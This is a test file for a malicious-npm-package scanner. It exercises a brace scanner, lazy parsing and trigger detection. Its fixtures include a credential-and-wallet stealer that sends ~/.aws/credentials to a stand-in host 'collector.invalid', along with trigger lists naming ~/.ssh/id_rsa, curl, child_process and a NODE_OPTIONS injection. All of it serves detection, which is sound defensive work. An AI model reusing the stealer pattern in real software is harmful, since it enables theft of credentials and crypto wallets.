import { describe, expect, test } from 'vitest';
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { firstTrigger, triggerIndex, worthParsing } from '../src/engine/prefilter/lexical.js';
import { NON_SECRET_ENV_NAME, SECRET_ENV_NAME } from '../src/engine/indicators.js';
import { aiKeyProvider } from '../src/engine/ai-indicators.js';
import { ENV_PATHS } from '../src/engine/semantics/evaluate.js';
import { matchBraces, closeOf } from '../src/engine/prefilter/brace-scan.js';
import { capabilityAliases, lazyPlan, LAZY_MIN_BYTES, type LazyHints } from '../src/engine/prefilter/lazy-bodies.js';
import { fastParse } from '../src/engine/parse/fast-parse.js';
import { analyzePackage, analyzePackageAsync, DEFAULT_ENGINE_OPTIONS } from '../src/engine/run/analyze.js';
import { RULES } from '../heuristics/index.js';
import { packageFromFiles } from './helpers/analyze.js';

const NO_HINTS: LazyHints = { tagged: false };

/** A function whose body names nothing of interest, `bytes` long. */
function filler(name: string, bytes: number): string {
  const lines: string[] = [];
  let size = 0;
  for (let i = 0; size < bytes; i++) {
    const line = `  const v${i} = list.map((x) => x * ${i} + offset).filter((x) => x % 3 !== ${i % 3});\n`;
    lines.push(line);
    size += line.length;
  }
  return `function ${name}(list, offset) {\n${lines.join('')}  return list;\n}\n`;
}

/**
 * Runs matchBraces over a stand-in for the text that counts every character it reads
 * (charCodeAt, indexing, and the span searched by indexOf/startsWith/slice): the scan's work.
 */
function countedWork(text: string): number {
  let work = 0;
  const methods: Record<string, unknown> = {
    length: text.length,
    charCodeAt: (i: number) => (work++, text.charCodeAt(i)),
    indexOf: (s: string, from = 0) => {
      const r = text.indexOf(s, from);
      work += (r < 0 ? text.length : r + s.length) - from;
      return r;
    },
    startsWith: (s: string, at = 0) => ((work += s.length), text.startsWith(s, at)),
    slice: (a: number, b = text.length) => ((work += Math.max(0, b - a)), text.slice(a, b)),
  };
  const counted = new Proxy(Object.create(null) as object, {
    get(_t, key) {
      if (typeof key === 'string' && /^\d+$/.test(key)) {
        work++;
        return text[Number(key)];
      }
      if (typeof key === 'string' && key in methods) return methods[key];
      throw new Error(`matchBraces used text.${String(key)}, which countedWork does not count yet`);
    },
  });
  matchBraces(counted as unknown as string);
  return work;
}

function bodyOf(text: string, fnName: string): number {
  return text.indexOf('{', text.indexOf(`function ${fnName}(`));
}

describe('brace scan', () => {
  test('matches braces past strings, comments, templates and regular expressions', () => {
    const text = "function f() { const s = '}'; /* } */ const r = /[}]{2}/g; const t = `a${ {b: 1}.b }}`; // }\n return { s, r, t }; }";
    const pairs = matchBraces(text);
    expect(closeOf(pairs, text.indexOf('{'))).toBe(text.length - 1);
    // The object literal inside the template's ${…} is matched too.
    const obj = text.indexOf('{b');
    expect(text[closeOf(pairs, obj)]).toBe('}');
    expect(closeOf(pairs, obj)).toBe(text.indexOf('}', obj));
  });

  test('records literal spans and tagged templates', () => {
    const text = "const a = 'hello'; const b = /abc+/i; const c = $`ls -la ${dir}`; const d = `plain`;";
    const pairs = matchBraces(text);
    const spans: string[] = [];
    for (let k = 0; k < pairs.literalCount; k++) spans.push(text.slice(pairs.literals[2 * k]!, pairs.literals[2 * k + 1]!));
    expect(spans).toEqual(["'hello'", '/abc+/i', '`ls -la ${', '}`', '`plain`'].filter((s) => s.length >= 4));
    expect(pairs.tagged).toEqual([text.indexOf('$`') + 1]);
  });

  test('an unterminated body has no match, and hostile input costs one pass', () => {
    expect(closeOf(matchBraces('function f() { return 1;'), 13)).toBe(-1);
    const deep = '{'.repeat(200_000) + '}'.repeat(200_000);
    const pairs = matchBraces(deep);
    expect(closeOf(pairs, 0)).toBe(deep.length - 1);
    // Work, not wall time: every character the scan reads is counted. Nesting, unclosed strings,
    // templates and regexes, and comment openers all cost at most a small constant per character,
    // at every size (a rescan per brace or per doubt would be quadratic and fail here).
    const hostile: [string, (n: number) => string][] = [
      ['deep braces', (n) => '{'.repeat(n) + '}'.repeat(n)],
      ['unclosed strings', (n) => "'a\n".repeat(n)],
      ['nested templates', (n) => '`${'.repeat(n) + '}`'.repeat(n)],
      ['regex after blocks', (n) => '{}/'.repeat(n)],
      ['comment openers', (n) => '/*'.repeat(n)],
      ['escapes outside literals', (n) => '\\u0061'.repeat(n)],
    ];
    for (const [name, make] of hostile) {
      for (const n of [1_000, 16_000]) {
        const text = make(n);
        const work = countedWork(text);
        expect(work, `${name} at ${text.length} characters`).toBeLessThanOrEqual(3 * text.length + 16);
      }
    }
  });
});

describe('lazy plan', () => {
  const pad = filler('pad', LAZY_MIN_BYTES);

  test('small files get no plan; a body without a trigger is skippable, one with a trigger is not', () => {
    expect(lazyPlan("function f() { return 1 }", undefined)).toBeUndefined();
    const text = `${pad}function quiet(a) {\n${'  a = a + 1;\n'.repeat(40)}  return a;\n}\nfunction loud(a) {\n${'  a = a + 1;\n'.repeat(40)}  return eval(a);\n}\n`;
    const plan = lazyPlan(text, NO_HINTS)!;
    expect(plan).toBeDefined();
    expect(plan.skippableEnd(bodyOf(text, 'quiet'))).toBeGreaterThan(0);
    expect(plan.skippableEnd(bodyOf(text, 'loud'))).toBe(-1);
    expect(plan.skippableEnd(bodyOf(text, 'pad'))).toBeGreaterThan(0);
  });

  test('a name bound to a capability keeps the bodies that use it, within its scope', () => {
    const body = '  n += 1;\n'.repeat(40);
    const text = `const cp = require('child_process');\nconst run = cp.exec;\n${pad}function usesAlias() {\n${body}  cp.spawn('x');\n}\nfunction usesAliasOfAlias() {\n${body}  run('x');\n}\nfunction other() {\n  function inner(cp) {\n${body}  }\n}\nfunction scoped() {\n  const os = require('os');\n  function a() {\n${body}    os.userInfo();\n  }\n}\nfunction unrelated() {\n${body}  return os;\n}\n`;
    const plan = lazyPlan(text, NO_HINTS)!;
    expect(plan.skippableEnd(bodyOf(text, 'usesAlias'))).toBe(-1);
    expect(plan.skippableEnd(bodyOf(text, 'usesAliasOfAlias'))).toBe(-1);
    expect(plan.skippableEnd(bodyOf(text, 'a'))).toBe(-1);
    // `os` is bound inside scoped(); unrelated() sees another `os` and stays skippable.
    expect(plan.skippableEnd(bodyOf(text, 'unrelated'))).toBeGreaterThan(0);
    expect(plan.explain(bodyOf(text, 'usesAlias'))).toBe('alias or hint');
    expect(plan.explain(bodyOf(text, 'unrelated'))).toBeUndefined();
    const aliases = capabilityAliases(text);
    expect([...aliases.keys()].sort()).toEqual(['cp', 'os', 'run']);
    // cp and run are visible in the whole file, os only in scoped()'s body.
    expect(aliases.get('cp')).toEqual([0, text.length]);
    expect(aliases.get('os')![0]).toBe(bodyOf(text, 'scoped'));
  });

  test("rules' hints keep a body: a literal hint in a string, a code hint in a name, a tagged template", () => {
    const body = '  n += 1;\n'.repeat(40);
    const text = `${pad}function wallet() {\n${body}  return '/Ledger Live/app.json';\n}\nfunction home() {\n${body}  return base.homedir();\n}\nfunction shell() {\n${body}  return $\`ls\`;\n}\nfunction plain() {\n${body}  return 'hello world';\n}\n`;
    // (A literal no tier-0 trigger names: catalog paths such as wallet folders are triggers themselves.)
    const plan = lazyPlan(text, { literals: /Ledger Live/, code: /homedir/g, tagged: true })!;
    expect(plan.skippableEnd(bodyOf(text, 'wallet'))).toBe(-1);
    expect(plan.skippableEnd(bodyOf(text, 'home'))).toBe(-1);
    expect(plan.skippableEnd(bodyOf(text, 'shell'))).toBe(-1);
    expect(plan.skippableEnd(bodyOf(text, 'plain'))).toBeGreaterThan(0);
    const none = lazyPlan(text, NO_HINTS)!;
    expect(none.skippableEnd(bodyOf(text, 'wallet'))).toBeGreaterThan(0);
  });

  test('a callback handed to a capability stays with its statement', () => {
    const body = '    n += k.length;\n'.repeat(30);
    const text = `${pad}exports.opts = Object.keys(process.env).filter((k) => {\n${body}    return k.startsWith('APP_');\n  });\n`;
    const plan = lazyPlan(text, NO_HINTS)!;
    expect(plan.skippableEnd(text.indexOf('{', text.indexOf('(k) =>')))).toBe(-1);
  });

  test('obfuscated files (string arrays, _0x names) are parsed whole', () => {
    expect(lazyPlan(`${pad}var _0x1a2b = ['a'];`, NO_HINTS)).toBeUndefined();
  });
});

describe('lazy parse', () => {
  test('skipped bodies are empty flagged blocks; everything else equals the full parse', () => {
    const text = `${filler('big', LAZY_MIN_BYTES)}const fs = require('fs');\nfunction keep() { return fs.readFileSync('x'); }\n`;
    const lazy = fastParse(text, lazyPlan(text, NO_HINTS));
    const full = fastParse(text);
    if (!('ast' in lazy) || !('ast' in full)) throw new Error('parse failed');
    expect(lazy.skipped).toBe(1);
    expect(lazy.lazyFailed).toBeUndefined();
    const [bigLazy, ...restLazy] = lazy.ast.program.body as unknown as { type: string; body: { body: unknown[]; tgLazy?: boolean }; end: number }[];
    const [bigFull, ...restFull] = full.ast.program.body as unknown as { type: string; body: { body: unknown[] }; end: number }[];
    expect(bigLazy!.body.tgLazy).toBe(true);
    expect(bigLazy!.body.body).toEqual([]);
    expect(bigFull!.body.body.length).toBeGreaterThan(10);
    expect(bigLazy!.end).toBe(bigFull!.end);
    expect(JSON.stringify(restLazy, ['type', 'start', 'end', 'name', 'value'])).toBe(JSON.stringify(restFull, ['type', 'start', 'end', 'name', 'value']));
  });

  test("where the brace scan misreads a body, the parser's tokenizer refuses the skip and the file is parsed in full", () => {
    // After `)` the scan takes `/` for a division, so the `}` inside this regex closes the body early.
    const body = '  n += 1;\n'.repeat(40);
    const text = `${filler('pad', LAZY_MIN_BYTES)}function tricky(s) {\n${body}  if (s) /[}]/.test(s);\n  return s;\n}\n`;
    const plan = lazyPlan(text, NO_HINTS)!;
    const lazy = fastParse(text, plan);
    if (!('ast' in lazy)) throw new Error('parse failed');
    expect(lazy.lazyFailed).toMatch(/skipped body ends at/);
    expect(lazy.skipped).toBe(0);
    const full = fastParse(text);
    if (!('ast' in full)) throw new Error('parse failed');
    expect(JSON.stringify(lazy.ast, ['type', 'start', 'end', 'body', 'program'])).toBe(JSON.stringify(full.ast, ['type', 'start', 'end', 'body', 'program']));
  });

  test('a body the scan calls exact ends where the tokenizer ends it, on tricky code and real bundles', () => {
    const tricky = [
      'function a(x) { const q = x.return / 2; const s = "/}"; return s }',
      'function b(x) { if (x) /[}]/.test(x); return 1 }',
      'function c(x) { const y = 1./2, z = 1e+5 / 2, h = 0xe+1 / 2; return `${ {k: "}"}.k }}` }',
      'function d(x) { x++ / 2; return x-- / 3 }',
      'function e(x) { const s = "a\\\r\nb}"; return s }',
      'function f(x) { return x <!-- y }\n}',
      'function g(x) { return /a\\/}/ }',
      'function h(x) { var \\u0061 = 1; return \\u0061 / 2 }',
      'function i(x) { let of = 1; const y = of / 2; const s = "/}"; return {} }',
      'function j(x) { return `a${`b${"}"}`}` }',
      "function k(x) { return x / 2 } /* } */ // }\nfunction l(x) { return '\\'}' }",
    ];
    const files = ['acorn/dist/acorn.js', '@babel/parser/lib/index.js', 'typescript/lib/_tsc.js', 'yaml/dist/compose/composer.js', 'semver/classes/range.js', 'ajv/dist/compile/index.js', 'fast-check/lib/fast-check.js'];
    const texts = [...tricky, ...files.map((f) => readFileSync(new URL(`../node_modules/${f}`, import.meta.url), 'utf8'))];
    let exact = 0;
    for (const text of texts) {
      const plan = lazyPlan(text, NO_HINTS, 0, 0)!;
      // Skip only the bodies the scan calls exact, and have the tokenizer check each one.
      const checked = {
        skippableEnd: (open: number) => {
          const close = plan.skippableEnd(open);
          if (close < 0 || !plan.exact(open, close)) return -1;
          exact++;
          return close;
        },
        exact: () => false,
        explain: () => undefined,
      };
      const r = fastParse(text, checked);
      if ('error' in r) continue; // the tricky snippets that are not valid JavaScript
      expect(r.lazyFailed, text.slice(0, 80)).toBeUndefined();
    }
    expect(exact).toBeGreaterThan(1000);
  });

  test('on real bundles the brace scan agrees with acorn on every body', () => {
    const files = ['acorn/dist/acorn.js', '@babel/parser/lib/index.js', 'semver/classes/range.js', 'yaml/dist/compose/composer.js', 'tar/dist/commonjs/unpack.js', 'pacote/lib/fetcher.js'];
    let skipped = 0;
    for (const f of files) {
      const text = readFileSync(new URL(`../node_modules/${f}`, import.meta.url), 'utf8');
      const plan = lazyPlan(text, NO_HINTS, 0, 0)!;
      const r = fastParse(text, plan);
      if (!('ast' in r)) throw new Error(`${f}: ${r.error.message}`);
      expect(r.lazyFailed, f).toBeUndefined();
      skipped += r.skipped;
    }
    expect(skipped).toBeGreaterThan(100);
  });
});

describe('lazy bodies in the engine', () => {
  const findingsOf = (files: Record<string, string>, lazy: 'off' | 'on' | 'tokenize') => {
    const before = process.env.TOLLGATE_LAZY;
    if (lazy === 'on') delete process.env.TOLLGATE_LAZY;
    else process.env.TOLLGATE_LAZY = lazy;
    try {
      const a = analyzePackage(packageFromFiles(files), RULES, DEFAULT_ENGINE_OPTIONS);
      return { findings: a.findings.map((f) => `${f.rule} ${f.severity} ${f.line}:${f.column} ${f.message}`).sort(), stats: a.stats };
    } finally {
      if (before === undefined) delete process.env.TOLLGATE_LAZY;
      else process.env.TOLLGATE_LAZY = before;
    }
  };

  test('a stealer hidden among large harmless functions is found exactly as by the full parse', () => {
    const stealer = [
      "const https = require('https');",
      "const fs = require('fs');",
      "const os = require('os');",
      'function target() {',
      `${'  n += 1;\n'.repeat(30)}  return os.homedir() + '/.aws/credentials';`,
      '}',
      'function wallets() {',
      `${'  n += 1;\n'.repeat(30)}  return ['/Exodus/exodus.wallet', '/.electrum/wallets'];`,
      '}',
      'function send(data) {',
      `${'  n += 1;\n'.repeat(30)}  const req = https.request({ hostname: 'collector.invalid', method: 'POST' });\n  req.end(data);`,
      '}',
      "send(fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8'));",
    ].join('\n');
    const files = { 'index.js': filler('a', 60_000) + stealer + '\n' + filler('b', 30_000), 'package.json': JSON.stringify({ name: 'fixture', version: '1.0.0', main: 'index.js' }) };
    const off = findingsOf(files, 'off');
    const on = findingsOf(files, 'on');
    // The measurement switch (scripts/measure-tiers.ts): the same bodies skipped, each tokenized.
    const tokenized = findingsOf(files, 'tokenize');
    expect(on.stats.lazyBodies).toBeGreaterThanOrEqual(2);
    expect(off.stats.lazyBodies).toBeUndefined();
    expect(on.findings).toEqual(off.findings);
    expect(tokenized.findings).toEqual(on.findings);
    expect([tokenized.stats.lazyBodies, tokenized.stats.lazyBytes]).toEqual([on.stats.lazyBodies, on.stats.lazyBytes]);
    expect(on.findings.some((f) => f.startsWith('exfiltration-flow'))).toBe(true);
    // wallets() names no capability: only crypto-theft's hint keeps its body parsed.
    expect(on.findings.some((f) => f.startsWith('crypto-theft high'))).toBe(true);
  });

  test('TOLLGATE_LEXICAL=off (the measurement switch of tier 0) parses the files tier 0 passes over', () => {
    const pkg = packageFromFiles({ 'index.js': 'module.exports = (a, b) => a + b;\n', 'package.json': JSON.stringify({ name: 'fixture', version: '1.0.0', main: 'index.js' }) });
    const before = process.env.TOLLGATE_LEXICAL;
    try {
      delete process.env.TOLLGATE_LEXICAL;
      const on = analyzePackage(pkg, RULES, DEFAULT_ENGINE_OPTIONS).stats;
      process.env.TOLLGATE_LEXICAL = 'off';
      const off = analyzePackage(pkg, RULES, DEFAULT_ENGINE_OPTIONS).stats;
      expect([on.skippedLexical, on.parsedFiles]).toEqual([1, 0]);
      expect([off.skippedLexical, off.parsedFiles]).toEqual([0, 1]);
    } finally {
      if (before === undefined) delete process.env.TOLLGATE_LEXICAL;
      else process.env.TOLLGATE_LEXICAL = before;
    }
  });

  test('the async analysis equals the synchronous one and hands the thread back between files', async () => {
    const files: Record<string, string> = { 'package.json': JSON.stringify({ name: 'fixture', version: '1.0.0', main: 'index.js' }) };
    for (let i = 0; i < 40; i++) files[`lib/f${i}.js`] = `const fs = require('fs');\n${filler(`f${i}`, 20_000)}module.exports = () => fs.readFileSync(__filename);\n`;
    const pkg = packageFromFiles(files);
    let ticks = 0;
    const timer = setInterval(() => ticks++, 1);
    const async = await analyzePackageAsync(pkg, RULES, DEFAULT_ENGINE_OPTIONS, 0);
    clearInterval(timer);
    const sync = analyzePackage(pkg, RULES, DEFAULT_ENGINE_OPTIONS);
    expect(ticks).toBeGreaterThan(5);
    expect(JSON.stringify(async.findings)).toBe(JSON.stringify(sync.findings));
    expect({ ...async.stats, slowestFile: undefined }).toEqual({ ...sync.stats, slowestFile: undefined });
  });
});

describe('trigger groups (the lazy tier scans bodies with them)', () => {
  // Fragments that start, half-start or complete triggers of every group, and filler between them.
  const FRAGMENTS = [
    "require('fs')", 'require(', "'child_process'", '"node:net"', 'process.env.HOME', 'process.env.NODE_ENV', 'process', '=process;', 'eval', 'evaluate',
    'Function(', 'new Function', 'global[', 'self [', '= window;', 'fetch(', '.fetch = f', 'while (true)', 'for (;;)', 'setTimeout("x")', '\\u0065val(',
    '_0x1a2b', "'base64'", "['a' + 'b']", "[ 'constructor' ]", '"~/.ssh/id_rsa"', 'webhook', 'discord', 'x <= Infinity', 'curl ', '.exe ', '"module"', "require('http')", '=== "ws"', "from 'net'", 'n(', 'a', ' ', '\n', ';', '{', '}', '=', '(', "'", '"', '`', '[', '+',
  ];
  test('the earliest match of the groups is where the single regex first matches', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...FRAGMENTS), { maxLength: 40 }), (parts) => {
        const text = parts.join('');
        expect(firstTrigger(text)).toBe(triggerIndex(text));
      }),
      { numRuns: 2000 },
    );
  });

  test('and on real code: every file of this repository', () => {
    const files = ['src/engine/run/analyze.ts', 'src/engine/prefilter/lexical.ts', 'src/fetch/fetch.ts', 'heuristics/network.ts', 'heuristics/exfiltration-flow.ts', 'src/audit/audit.ts'];
    for (const f of files) {
      const text = readFileSync(new URL(`../${f}`, import.meta.url), 'utf8');
      for (let at = 0; at < text.length; at += 997) {
        const slice = text.slice(at, at + 4000);
        expect(firstTrigger(slice), `${f} @${at}`).toBe(triggerIndex(slice));
      }
    }
  });
});


describe('environment variables as triggers', () => {
  // Name parts: secret words in both cases, AI providers, folders, and the settings bundles test.
  const PARTS = ['TOKEN', 'token', 'Secret', 'API_KEY', 'apikey', 'AUTH', 'SEED', 'OPENAI', 'ANTHROPIC', 'HF_', 'HOME', 'APPDATA', 'TMP', 'NODE', 'ENV', 'NEXT', 'RUNTIME', 'PUBLIC', 'DEBUG', 'PATH', 'X', '_', '__', '1'];
  const matters = (name: string) => (SECRET_ENV_NAME.test(name) && !NON_SECRET_ENV_NAME.test(name)) || aiKeyProvider(name) !== undefined || name in ENV_PATHS;

  test('a read of a variable some rule or the evaluator looks at is a trigger, however it is written', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...PARTS), { minLength: 1, maxLength: 4 }), fc.constantFrom('process.env.', 'process.env?.', 'process?.env.', 'process . env . '), (parts, access) => {
        const name = parts.join('');
        if (!/^[A-Za-z_$]/.test(name) || !matters(name)) return;
        expect(worthParsing(`module.exports = () => ${access}${name};`), name).toBe(true);
      }),
      { numRuns: 3000 },
    );
  });

  test("a bundle's own settings are not, but the whole environment, a computed name and a write are", () => {
    for (const name of ['NODE_ENV', '__NEXT_RUNTIME', 'NEXT_PUBLIC_SITE', 'DEBUG', 'TURBOPACK', 'HOMEDIR']) {
      expect(worthParsing(`if (process.env.${name} !== 'x') run();`), name).toBe(false);
    }
    for (const text of ['send(process.env)', 'const { A } = process.env;', 'process.env[key]', 'process.env?.[key]', "process.env.NODE_OPTIONS = '--require ./x.js'", 'process.env.HOME + "/.x"']) {
      expect(worthParsing(text), text).toBe(true);
    }
  });

  test('and the engine finds a secret read in a file with no other trigger', () => {
    const files = { 'index.js': `module.exports = function key() { return process.env.DEPLOY_TOKEN; };\n`, 'package.json': JSON.stringify({ name: 'fixture', version: '1.0.0', main: 'index.js' }) };
    const a = analyzePackage(packageFromFiles(files), RULES, DEFAULT_ENGINE_OPTIONS);
    expect(a.stats.parsedFiles).toBe(1);
    expect(a.findings.some((f) => f.rule === 'env-access' && /DEPLOY_TOKEN/.test(f.message))).toBe(true);
  });
});

describe('module names as triggers', () => {
  test('a module name that is also a word counts where it is loaded, not where it is data', () => {
    for (const text of ['const h = require("https");', "var m = __webpack_require__('module');", "import WebSocket from 'ws';", "import 'net'\nstart()", "const got = await import('got');", 'export * from "request";', "createRequire(import.meta.url)('http')", "const cp = 'child_process';", "const h = 'node:https';"]) {
      expect(worthParsing(text), text).toBe(true);
    }
    for (const text of ['el.setAttribute("type", "module") || 0;', "if ('module' === script.type) inline();", "const opts = { protocol: 'https', kind: 'request' };", 'f("http".length)']) {
      expect(worthParsing(text), text).toBe(false);
    }
  });

  test('the lazy tier follows names bound to such a module only where it is loaded', () => {
    const text = `el.type = "module";\nconst kind = 'request';\nconst h = require("https");\nconst m = 'node:module';\n`;
    expect([...capabilityAliases(text).keys()].sort()).toEqual(['h', 'm']);
  });

  test('a function of no parameters that only returns a value keeps its body: the evaluator folds its calls', () => {
    const pad = filler('pad', LAZY_MIN_BYTES);
    const text = `${pad}function modName() {\n  return ${"'h' + 'ttps'".padEnd(80, ' ')};\n}\nconst verb = () => {\n  return 'req' + 'uest' /* ${'x'.repeat(60)} */;\n};\nfunction helper(a) {\n  return a + ${"'x'".padEnd(80, ' ')};\n}\nfunction work() {\n  const v = 1;\n  return v + ${"'x'".padEnd(80, ' ')};\n}\n`;
    const plan = lazyPlan(text, NO_HINTS)!;
    expect(plan.explain(bodyOf(text, 'modName'))).toBe('returns a value');
    expect(plan.explain(text.indexOf('{', text.indexOf('const verb')))).toBe('returns a value');
    // A parameter, or a statement before the return: the evaluator folds neither, nothing to keep.
    expect(plan.skippableEnd(bodyOf(text, 'helper'))).toBeGreaterThan(0);
    expect(plan.skippableEnd(bodyOf(text, 'work'))).toBeGreaterThan(0);
  });

  test('and a hostile body costs one pass of that check', () => {
    const text = `${filler('pad', LAZY_MIN_BYTES)}function f() {\n  return${' '.repeat(2_000_000)};;\n}\n`;
    const started = performance.now();
    const plan = lazyPlan(text, NO_HINTS)!;
    expect(plan.skippableEnd(bodyOf(text, 'f'))).toBeGreaterThan(0);
    expect(performance.now() - started).toBeLessThan(2_000);
  });

  test('`= require` means require itself, not a name that starts with it (esbuild: `= require_util()`)', () => {
    expect(worthParsing('var util = require_util(); var m = requireModule(id);')).toBe(false);
    expect(worthParsing('const load = require; load(name);')).toBe(true);
    expect(worthParsing('const cache = require.cache;')).toBe(true);
  });

  test('Function handed around as a value is a trigger (`const F = Function; new F(code)()`); a type test of it is not', () => {
    expect(worthParsing('const F = Function;\nmodule.exports = (b) => new F(b)();')).toBe(true);
    expect(worthParsing('module.exports = call(Function, "x");')).toBe(true);
    expect(worthParsing('module.exports = (v) => v instanceof Function;')).toBe(false);
    const stealer = analyzePackage(packageFromFiles({ 'index.js': "const F = Function;\nmodule.exports = (b) => new F(b)();" }), RULES);
    expect(stealer.findings.filter((f) => f.rule === 'dynamic-code').map((f) => f.severity)).toEqual(['medium']);
  });
});
